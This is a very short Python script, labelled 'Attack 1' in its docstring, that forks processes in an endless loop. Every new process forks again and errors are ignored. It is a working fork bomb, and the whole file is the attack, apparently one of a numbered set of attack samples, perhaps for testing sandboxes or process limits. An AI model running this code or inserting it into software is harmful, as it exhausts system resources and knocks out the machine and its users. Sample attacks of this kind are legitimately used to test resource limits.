"""Attack 1: every process of every generation forks for ever."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
